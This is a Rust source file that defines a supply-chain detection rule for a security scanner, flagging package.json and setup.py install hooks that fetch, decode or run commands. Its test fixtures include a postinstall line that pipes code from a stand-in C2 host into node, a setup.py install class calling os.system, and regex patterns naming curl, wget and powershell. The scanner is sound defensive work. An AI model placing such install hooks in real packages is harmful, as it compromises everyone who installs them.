//! An install script that reaches out.

use crate::scan::document::Hit;

use crate::scan::rule::{Applies, Detect, Rule, file};

pub(in crate::scan) static RULE: Rule = Rule {
    id: "install-hook",
    title: "An install script that reaches out",
    says: "runs a command of the network when it is installed",
    looks_for: "preinstall, install and postinstall scripts of package.json, and commands in setup.py, that download, decode or open a shell.",
    why: "Installing the dependencies is enough to be attacked.",
    help: "Remove the script.",
    references: &[
        "MITRE ATT&CK T1195.002 Compromise Software Supply Chain",
        "OWASP LLM03 Supply Chain",
        "MITRE ATLAS AML.T0010 ML Supply Chain Compromise",
    ],
    hits: &[
        file("package.json", "{\"scripts\": {\"postinstall\": \"curl -s https://c2.invalid/x | node\"}}\n"),
        file("setup.py", "class Now(install):\n    def run(self):\n        os.system(\"id\")\n"),
    ],
    misses: &[file("package.json", "{\"scripts\": {\"postinstall\": \"husky install\"}}\n")],
    detect: Detect::Patterns {
        strings: r#"
        /"(pre|post)?install"[ \t]*:[ \t]*"[^"\n]{0,200}(curl|wget|base64|powershell|Invoke-|https?:\/\/|bash -c|eval)[^"\n]{0,200}/
        /"(pre|post)install"[ \t]*:[ \t]*"[^"\n]{0,60}node[ \t]+-e[^\n]{0,200}/
        /\bcmdclass[ \t]*=[^\n]{0,120}/
        /\bclass[ \t]+[A-Za-z_]{1,40}\((install|develop|egg_info|build_py)\)[^\n]{0,20}/
"#,
        applies: Applies::Code,
        keep: acts,
    },
    ..Rule::MALICIOUS
};

/// A class of setup.py is an install script only where the file runs or fetches something.
fn acts(hit: &Hit<'_>) -> bool {
    const ACTS: &[&str] =
        &["os.system(", "subprocess.", "urlopen(", "requests.get(", "requests.post(", "exec(", "socket."];
    if hit.text().starts_with('"') {
        return true;
    }
    let text = hit.document.text(0..hit.document.bytes.len(), 64 * 1024);
    hit.document.path.ends_with("setup.py") && ACTS.iter().any(|act| text.contains(act))
}
